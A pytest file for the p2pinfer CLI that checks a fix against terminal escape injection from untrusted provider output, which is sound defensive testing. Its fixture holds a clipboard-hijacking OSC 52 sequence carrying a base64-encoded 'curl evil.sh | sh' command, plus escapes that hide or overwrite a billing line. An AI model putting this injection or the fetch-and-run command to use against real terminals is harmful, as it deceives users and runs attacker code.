"""Attack 62, the answer: `p2pinfer ask` printed a provider's text raw, so its control
characters reached the user's terminal, which obeys them (OSC 52 sets the clipboard,
SGR 8 hides the "charged" line that follows, a carriage return overwrites a line). On
a terminal they are now shown, not sent; piped, the text is written as it came."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from p2pinfer.cli import ask_cmds, terminal
from p2pinfer.cli.main import _register_all, app
from p2pinfer.cli.terminal import terminal_safe

_register_all()

HOSTILE = "Sure!\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07\x1b[8m\rcharged 1\u202e"
PEER = "/ip4/127.0.0.1/tcp/9/p2p/12D3KooWSjZ7iCnPqahDQYUT9wBKgfLLJcCTq9dRqMSiGBXsJuv3"


def test_control_characters_are_shown_not_sent() -> None:
    shown = terminal_safe(HOSTILE)
    assert shown == "Sure!^[]52;c;Y3VybCBldmlsLnNoIHwgc2gK^G^[[8m^Mcharged 1<U+202E>"
    assert terminal_safe("a\tb\r\nc\n\x7f\x9b") == "a\tb\nc\n^?<U+009B>"
    assert terminal_safe("naïve 数学 🙂") == "naïve 数学 🙂"


class FakeOutcome:
    """What `ask` returns, without a network (only the fields the command prints)."""

    text = HOSTILE
    failovers: tuple[object, ...] = ()
    provider, job_id = "12D3KooWProvider", "ab" * 16
    prompt_tokens, completion_tokens, charged = 3, 5, 8


@pytest.mark.parametrize("tty", [True, False])
def test_ask_shows_an_answer_s_escapes_on_a_terminal_and_pipes_it_as_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tty: bool,
) -> None:
    def no_network(_: Any) -> tuple[FakeOutcome, None]:
        return FakeOutcome(), None

    monkeypatch.setattr(ask_cmds.trio, "run", no_network)
    monkeypatch.setattr(terminal, "on_terminal", lambda: tty)
    result = CliRunner().invoke(app, ["ask", "hi", "--home", str(tmp_path), "--bootstrap",
                                      PEER])
    assert result.exit_code == 0, result.output
    if tty:
        assert "\x1b" not in result.stdout and "^[]52;c;" in result.stdout
    else:
        assert HOSTILE in result.stdout
